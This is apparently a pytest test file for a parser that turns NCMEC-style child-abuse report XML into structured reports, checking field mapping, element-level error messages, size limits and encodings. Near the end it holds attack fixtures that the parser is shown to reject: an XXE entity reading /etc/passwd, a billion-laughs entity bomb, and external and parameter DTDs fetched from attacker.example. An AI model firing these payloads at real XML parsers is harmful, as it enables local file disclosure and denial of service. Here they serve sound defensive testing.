"""NCMEC-style XML into ReportIn: the mapping, the refusals (XXE, billion laughs, truncation) and
error paths that name the bad element."""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from eucentre.reports.ncmec_xml import (
    CSAM_TYPE,
    ENTICEMENT_TYPE,
    MAX_XML_BYTES,
    XmlReportError,
    parse_ncmec_xml,
)

NOW = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
MD5 = "d41d8cd98f00b204e9800998ecf8427e"
PDQ = "f8f8f0cee0f4a84f06370a22038f63f0b36e2ed596621e1d33e6b39c4e9c9b22"

FULL = f"""<?xml version="1.0" encoding="UTF-8"?>
<report xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
        xsi:noNamespaceSchemaLocation="https://report.cybertip.org/ispws/xsd">
  <incidentSummary>
    <incidentType>{CSAM_TYPE}</incidentType>
    <escalateToHighPriority>Child appears to be in immediate danger</escalateToHighPriority>
    <incidentDateTime>2025-02-28T08:00:00-07:00</incidentDateTime>
  </incidentSummary>
  <internetDetails>
    <webPageIncident>
      <url>https://example.org/a</url>
      <url>http://example.net/b?c=d&amp;e=f</url>
    </webPageIncident>
  </internetDetails>
  <reporter>
    <reportingPerson>
      <firstName>Jane</firstName><lastName>Doe</lastName><email>jane@provider.example</email>
    </reportingPerson>
  </reporter>
  <personOrUserReported>
    <personOrUserReportedPerson>
      <firstName>Ignored</firstName>
      <email>user@example.org</email>
      <address><country>fr</country></address>
    </personOrUserReportedPerson>
    <espIdentifier>1234567</espIdentifier>
    <screenName>baduser</screenName>
    <ipCaptureEvent>
      <ipAddress>10.2.3.4</ipAddress>
      <eventName>Upload</eventName>
      <dateTime>2025-02-28T15:00:00Z</dateTime>
    </ipCaptureEvent>
    <ipCaptureEvent>
      <ipAddress>2001:DB8:1::1</ipAddress>
      <eventName>Login</eventName>
      <dateTime>2025-02-27T15:00:00+01:00</dateTime>
      <possibleProxy>false</possibleProxy>
    </ipCaptureEvent>
  </personOrUserReported>
  <personOrUserReported>
    <screenName>other</screenName>
    <emailAddress>other@example.org</emailAddress>
    <estimatedLocation><countryCode>DE</countryCode></estimatedLocation>
    <ipCaptureEvent>
      <ipAddress>100.64.0.9</ipAddress>
      <eventName>Message Sent</eventName>
      <dateTime>2025-02-28T15:00:00Z</dateTime>
    </ipCaptureEvent>
  </personOrUserReported>
  <victim>
    <victimPerson><firstName>Ignored</firstName><age>11</age>
      <address><country>NL</country></address></victimPerson>
    <screenName>child1</screenName>
  </victim>
  <fileDetails>
    <fileName>img001.jpg</fileName>
    <fileViewedByEsp>false</fileViewedByEsp>
    <originalFileHash hashType="MD5">{MD5.upper()}</originalFileHash>
    <originalFileHash hashType="SHA1">da39a3ee5e6b4b0d3255bfef95601890afd80709</originalFileHash>
    <originalFileHash hashType="PDQ">{PDQ}</originalFileHash>
    <additionalInfo>found in a public album</additionalInfo>
  </fileDetails>
  <additionalInfo>Account shared the file in three groups.</additionalInfo>
</report>
"""


def parse(xml, **kwargs):
    kwargs.setdefault("now", NOW)
    return parse_ncmec_xml(xml, **kwargs)


def minimal(summary_extra="", body="", incident=CSAM_TYPE, when="2025-02-28T08:00:00Z"):
    return (
        f"<report><incidentSummary><incidentType>{incident}</incidentType>{summary_extra}"
        f"<incidentDateTime>{when}</incidentDateTime></incidentSummary>{body}</report>"
    )


def hashed_file(hash_type, value):
    element = f'<originalFileHash hashType="{hash_type}">{value}</originalFileHash>'
    return f"<fileDetails>{element}</fileDetails>"


def error(xml, **kwargs) -> XmlReportError:
    with pytest.raises(XmlReportError) as info:
        parse(xml, **kwargs)
    return info.value


def test_full_mapping():
    report = parse(FULL, provider_reference="esp-42")
    assert report.provider_reference == "esp-42"
    assert report.incident_type == "known_material"
    assert report.incident_time == datetime(2025, 2, 28, 15, 0, tzinfo=UTC)
    assert report.urgent is True
    assert report.content_removed is False
    assert report.urls == ["https://example.org/a", "http://example.net/b?c=d&e=f"]
    first, second = report.reported_users
    assert first.identifiers == ["baduser", "1234567", "user@example.org"]
    assert first.country == "FR"
    assert [(e.ip, e.event, e.time) for e in first.ip_events] == [
        ("10.2.3.4", "upload", datetime(2025, 2, 28, 15, 0, tzinfo=UTC)),
        ("2001:db8:1::1", "login", datetime(2025, 2, 27, 14, 0, tzinfo=UTC)),
    ]
    assert second.identifiers == ["other", "other@example.org"]
    assert second.country == "DE"
    assert second.ip_events[0].event == "other"
    assert [(v.age_estimate, v.country, v.identifiers) for v in report.victims] == [
        (11, "NL", ["child1"])
    ]
    assert [(h.signal, h.value) for h in report.hashes] == [("md5", MD5), ("pdq", PDQ)]
    (described,) = report.file_descriptions
    assert described.file_name == "img001.jpg"
    assert described.description == "found in a public album"
    assert described.hash is not None and described.hash.value == MD5
    assert report.description == "Account shared the file in three groups."
    # the reporting employee's personal data is not carried anywhere
    dumped = report.model_dump_json()
    assert "Jane" not in dumped and "jane@provider.example" not in dumped
    assert "Ignored" not in dumped


def test_bytes_and_str_give_the_same_report():
    assert parse(FULL.encode("utf-8")) == parse(FULL)


def test_default_provider_reference_is_a_stable_digest():
    one, two = parse(FULL), parse(FULL)
    assert one.provider_reference == two.provider_reference
    assert one.provider_reference.startswith("ncmec-xml:") and len(one.provider_reference) == 42
    assert parse(FULL.replace("three", "four")).provider_reference != one.provider_reference


@pytest.mark.parametrize(
    ("xml", "incident_type", "urgent"),
    [
        (minimal(), "new_material", False),
        (
            minimal(body=hashed_file("MD5", MD5)),
            "known_material",
            False,
        ),
        (
            minimal(
                body='<fileDetails><originalFileHash hashType="SHA1">'
                + "a" * 40
                + "</originalFileHash></fileDetails>"
            ),
            "new_material",
            False,
        ),
        (minimal(incident=ENTICEMENT_TYPE), "solicitation", False),
        (
            minimal(incident="  Online Enticement of Children\n for Sexual Acts "),
            "solicitation",
            False,
        ),
        (minimal("<escalateToHighPriority/>"), "new_material", False),
        (minimal("<escalateToHighPriority>false</escalateToHighPriority>"), "new_material", False),
        (minimal("<escalateToHighPriority>true</escalateToHighPriority>"), "new_material", True),
    ],
)
def test_incident_type_and_urgency(xml, incident_type, urgent):
    report = parse(xml)
    assert (report.incident_type, report.urgent) == (incident_type, urgent)


@pytest.mark.parametrize(
    ("xml", "path", "fragment"),
    [
        ("<notareport/>", "notareport", "root element must be <report>"),
        ("<report><incidentSummary>", "report", "not well-formed"),
        (FULL[: len(FULL) // 2], "report", "not well-formed"),
        ("", "report", "not well-formed"),
        ("<report>&nope;</report>", "report", "not well-formed"),
        ("<report/>", "report/incidentSummary", "is required"),
        (
            "<report><incidentSummary/></report>",
            "report/incidentSummary/incidentType",
            "is required",
        ),
        (
            minimal(incident="Child Sex Trafficking"),
            "report/incidentSummary/incidentType",
            "unsupported",
        ),
        (minimal(when="yesterday"), "report/incidentSummary/incidentDateTime", "ISO 8601"),
        (
            minimal(when="2025-02-28T08:00:00"),
            "report/incidentSummary/incidentDateTime",
            "time zone",
        ),
        (minimal(when="2026-02-28T08:00:00Z"), "report/incidentSummary/incidentDateTime", "future"),
        (
            minimal("<incidentDateTime>2025-02-28T08:00:00Z</incidentDateTime>"),
            "report/incidentSummary/incidentDateTime[2]",
            "only once",
        ),
        (
            minimal(
                body="<personOrUserReported><ipCaptureEvent><ipAddress>10.0.0.256</ipAddress>"
                "<dateTime>2025-02-28T08:00:00Z</dateTime></ipCaptureEvent></personOrUserReported>"
            ),
            "report/personOrUserReported[1]/ipCaptureEvent[1]/ipAddress",
            "not an IPv4 or IPv6 address",
        ),
        (
            minimal(
                body="<personOrUserReported><screenName>a</screenName></personOrUserReported>"
                "<personOrUserReported><ipCaptureEvent><ipAddress>10.0.0.1</ipAddress>"
                "</ipCaptureEvent><ipCaptureEvent><ipAddress>10.0.0.1</ipAddress>"
                "<dateTime>2025-02-28</dateTime></ipCaptureEvent></personOrUserReported>"
            ),
            "report/personOrUserReported[2]/ipCaptureEvent[1]/dateTime",
            "is required",
        ),
        (
            minimal(
                body="<personOrUserReported><ipCaptureEvent><ipAddress>10.0.0.1</ipAddress>"
                "<dateTime>2025-02-28</dateTime></ipCaptureEvent></personOrUserReported>"
            ),
            "report/personOrUserReported[1]/ipCaptureEvent[1]/dateTime",
            "time zone",
        ),
        (
            minimal(
                body="<personOrUserReported><ipCaptureEvent><ipAddress>10.0.0.1</ipAddress>"
                "<dateTime>2099-01-01T00:00:00Z</dateTime></ipCaptureEvent></personOrUserReported>"
            ),
            "report/personOrUserReported[1]/ipCaptureEvent[1]/dateTime",
            "future",
        ),
        (
            minimal(body="<personOrUserReported><country>France</country></personOrUserReported>"),
            "report/personOrUserReported[1]/country",
            "country code",
        ),
        (
            minimal(body="<personOrUserReported/>"),
            "report/personOrUserReported[1]",
            "needs identifiers",
        ),
        (
            minimal(
                body="<internetDetails><webPageIncident><url>https://a.example/</url></webPageIncident>"
                "<webPageIncident><url>https://b.example/</url><url>ftp://c.example/</url>"
                "</webPageIncident></internetDetails>"
            ),
            "report/internetDetails/webPageIncident[2]/url[2]",
            "http or https",
        ),
        (
            minimal(body="<fileDetails/>" + hashed_file("MD5", "abc")),
            "report/fileDetails[2]/originalFileHash[1]",
            "32 hexadecimal",
        ),
        (
            minimal(body="<victim><victimPerson><age>about ten</age></victimPerson></victim>"),
            "report/victim[1]/victimPerson/age",
            "whole number",
        ),
        (
            minimal(body="<victim><victimPerson><age>300</age></victimPerson></victim>"),
            "report/victim[1]/victimPerson/age",
            "less than or equal",
        ),
        (
            minimal(body="<additionalInfo>" + "x" * 10_001 + "</additionalInfo>"),
            "report/additionalInfo",
            "at most 10000",
        ),
    ],
)
def test_errors_name_the_element(xml, path, fragment):
    err = error(xml)
    assert err.element_path == path
    assert fragment in err.message
    assert str(err) == f"{path}: {err.message}"


XXE = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<report><incidentSummary><incidentType>&xxe;</incidentType></incidentSummary></report>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<report><additionalInfo>&lol9;</additionalInfo></report>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE report SYSTEM "http://attacker.example/evil.dtd">
<report/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<report/>"""


@pytest.mark.parametrize("xml", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused_quickly(xml):
    started = time.perf_counter()
    err = error(xml)
    assert time.perf_counter() - started < 0.5
    assert err.element_path == "report"
    assert "DOCTYPE declaration is not allowed" in err.message


def test_size_is_capped_before_parsing():
    huge = minimal(body="<additionalInfo>" + "x" * MAX_XML_BYTES + "</additionalInfo>")
    err = error(huge)
    assert err.element_path == "report" and "larger than" in err.message
    # a non-XML blob of the same size is refused for its size, not parsed
    assert "larger than" in error(b"\x00" * (MAX_XML_BYTES + 1)).message


def test_unicode_and_other_encodings():
    xml = minimal(body="<additionalInfo>Zürich – ĳ 🙂</additionalInfo>")
    assert parse(xml).description == "Zürich – ĳ 🙂"
    latin = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        + minimal(body="<additionalInfo>Zürich</additionalInfo>")
    ).encode("latin-1")
    assert parse(latin).description == "Zürich"


def test_a_namespaced_root_is_not_a_report():
    err = error('<report xmlns="urn:other"><incidentSummary/></report>')
    assert err.element_path == "{urn:other}report"
